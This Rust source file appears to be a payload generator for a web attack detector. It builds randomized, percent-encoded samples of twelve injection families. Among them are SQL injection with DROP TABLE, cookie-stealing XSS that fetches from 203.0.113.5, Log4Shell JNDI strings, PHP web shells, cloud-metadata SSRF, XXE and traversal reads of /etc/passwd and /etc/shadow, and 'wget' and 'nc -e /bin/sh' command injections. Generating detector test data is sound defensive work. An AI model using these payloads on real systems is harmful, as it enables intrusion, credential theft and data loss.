//! Attacks on web applications, put together at random from small grammars, and the disguises they come in.

use radar_engine::random::SplitMix64;

/// The families, each under the label it carries.
pub(crate) const FAMILIES: [&str; 12] = [
    "sql_injection",
    "script_injection",
    "path_traversal",
    "command_injection",
    "template_injection",
    "code_injection",
    "remote_resource",
    "xml_injection",
    "ldap_injection",
    "xpath_injection",
    "header_injection",
    "server_include",
];

/// One payload of a family, as an application would see it.
pub(crate) fn payload(random: &mut SplitMix64, family: &str) -> String {
    let number = 1 + random.below(9999);
    let word = *random.pick(&["abc", "test", "admin", "x", "foo", "guest", "bob"]);
    match family {
        "sql_injection" => sql(random, number, word),
        "script_injection" => script(random, number),
        "path_traversal" => traversal(random),
        "command_injection" => command(random, word),
        "template_injection" => random
            .pick(&[
                "{{7*7}}",
                "${7*7}",
                "#{7*7}",
                "${jndi:ldap://203.0.113.9/a}",
                "${${lower:j}ndi:rmi://203.0.113.9:1099/x}",
                "{{config.__class__.__init__.__globals__}}",
                "<%= 7*7 %>",
                "{{''.__class__.__mro__[1].__subclasses__()}}",
                "*{T(java.lang.Runtime).getRuntime().exec('id')}",
            ])
            .to_string(),
        "code_injection" => random
            .pick(&[
                "<?php system($_GET['c']); ?>",
                "system('id')",
                "phpinfo();",
                "eval(base64_decode('cGhwaW5mbygpOw=='))",
                "php://filter/convert.base64-encode/resource=index.php",
                "O:4:\"User\":1:{s:4:\"name\";s:5:\"admin\";}",
                "%{(#_memberAccess['allowStaticMethodAccess']=true)}",
                "data://text/plain;base64,PD9waHA=",
                "__import__('os').popen('id').read()",
            ])
            .to_string(),
        "remote_resource" => {
            let file = *random.pick(&["shell.txt?", "c99.php", "cmd.txt", "r.php?"]);
            match random.below(4) {
                0 => "http://169.254.169.254/latest/meta-data/iam/".into(),
                1 => format!("http://127.0.0.1:{number}/admin"),
                2 => format!("http://198.51.100.{}/{file}", number % 250),
                _ => format!("gopher://127.0.0.1:6379/_{word}"),
            }
        }
        "xml_injection" => {
            format!("<!DOCTYPE {word} [<!ENTITY e{number} SYSTEM \"file:///etc/passwd\">]><{word}>&e{number};</{word}>")
        }
        "ldap_injection" => {
            random.pick(&["*)(uid=*))(|(uid=*", "admin)(&)", "*)(objectClass=*", "x)(|(cn=*)", "*))%00"]).to_string()
        }
        "xpath_injection" => {
            let tail = *random.pick(&[
                "count(/child::node())=1",
                "name(//*[1])='a'",
                "'1'='1",
                "string-length(name(/*[1]))=4",
                "//user[position()=1]/child::text()",
            ]);
            format!("{word}' or {tail}")
        }
        "header_injection" => {
            let header = *random.pick(&[
                "Set-Cookie: session=1",
                "Location: http://203.0.113.7/",
                "Content-Length: 0\r\n\r\nHTTP/1.1 200 OK",
                "X-Injected: 1",
            ]);
            format!("{word}\r\n{header}")
        }
        _ => random
            .pick(&["<!--#exec cmd=\"ls -la\"-->", "<!--#include virtual=\"/etc/passwd\"-->", "<!--#echo var=\"DATE_LOCAL\" -->"])
            .to_string(),
    }
}

fn sql(random: &mut SplitMix64, number: u64, word: &str) -> String {
    let quote = *random.pick(&["'", "\"", "", "')", "'))", ")"]);
    let end = *random.pick(&["-- ", "#", "--+", "/*", "", ";--"]);
    let body = match random.below(10) {
        0 => format!("OR {number}={number}"),
        1 => format!("AND {number}={}", number + 1),
        2 => {
            let columns = vec!["NULL"; 1 + random.below(8) as usize].join(",");
            format!("UNION ALL SELECT {columns} FROM {word}")
        }
        3 => format!("; DROP TABLE {word}"),
        4 => format!("AND SLEEP({})", number % 9),
        5 => "; WAITFOR DELAY '0:0:5'".into(),
        6 => format!("AND (SELECT COUNT(*) FROM information_schema.tables)>{}", number % 100),
        7 => format!("ORDER BY {}", number % 20),
        8 => format!("AND extractvalue(1,concat(0x7e,(SELECT version())))={number}"),
        _ => format!("OR '{word}' LIKE '{word}"),
    };
    format!("{}{quote} {body}{end}", if random.chance(0.5) { number.to_string() } else { word.to_owned() })
}

fn script(random: &mut SplitMix64, number: u64) -> String {
    let call = match random.below(4) {
        0 => format!("alert({number})"),
        1 => "prompt(document.cookie)".into(),
        2 => format!("eval(String.fromCharCode(97,{number}))"),
        _ => "fetch('//203.0.113.5/'+document.cookie)".into(),
    };
    let body = match random.below(7) {
        0 => format!("<script>{call}</script>"),
        1 => format!("<img src=x onerror={call}>"),
        2 => format!("<svg/onload={call}>"),
        3 => format!("javascript:{call}"),
        4 => format!("\" onmouseover=\"{call}"),
        5 => format!("<iframe src=\"javascript:{call}\"></iframe>"),
        _ => format!("';{call}//"),
    };
    format!("{}{body}", random.pick(&["", "\">", "'>", "x"]))
}

fn traversal(random: &mut SplitMix64) -> String {
    let step = *random.pick(&["../", "..\\", "....//", "%2e%2e/", "..;/"]);
    let file = *random.pick(&[
        "etc/passwd",
        "etc/shadow",
        "windows/win.ini",
        "boot.ini",
        "proc/self/environ",
        "WEB-INF/web.xml",
        "var/log/auth.log",
    ]);
    match random.below(5) {
        0 => format!("/{file}"),
        1 => format!("file:///{file}"),
        _ => format!("{}{file}{}", step.repeat(2 + random.below(8) as usize), random.pick(&["", "", "\0", "\0.png"])),
    }
}

fn command(random: &mut SplitMix64, word: &str) -> String {
    let command = *random.pick(&[
        "id",
        "cat /etc/passwd",
        "whoami",
        "ping -c 3 203.0.113.4",
        "wget http://203.0.113.4/x.sh",
        "nc -e /bin/sh 203.0.113.4 4444",
        "ls -la",
        "uname -a",
        "dir c:\\",
        "sleep 9",
    ]);
    match random.below(7) {
        0 => format!(";{command}"),
        1 => format!("{word}|{command}"),
        2 => format!("`{command}`"),
        3 => format!("$({command})"),
        4 => format!("{word} && {command}"),
        5 => format!("{word};{command};"),
        _ => format!("| {command} ||"),
    }
}

/// As it stands in a query: escaped a little, wholly or twice, perhaps in changing case.
pub(crate) fn disguise(random: &mut SplitMix64, text: &str) -> String {
    let mixed: String = match random.below(4) {
        0 => text.chars().map(|c| if random.chance(0.5) { c.to_ascii_uppercase() } else { c.to_ascii_lowercase() }).collect(),
        _ => text.to_owned(),
    };
    match random.below(8) {
        0 => mixed.bytes().map(|byte| format!("%{byte:02X}")).collect(),
        1 => escape(&escape(&mixed, false), false),
        kind => escape(&mixed, kind % 2 == 0),
    }
}

/// Percent-escapes what a browser would.
pub(crate) fn escape(text: &str, is_plus: bool) -> String {
    let mut escaped = String::new();
    for byte in text.bytes() {
        match byte {
            b' ' if is_plus => escaped.push('+'),
            b'a'..=b'z' | b'A'..=b'Z' | b'0'..=b'9' | b'-' | b'_' | b'.' | b'*' => escaped.push(char::from(byte)),
            _ => escaped.push_str(&format!("%{byte:02X}")),
        }
    }
    escaped
}
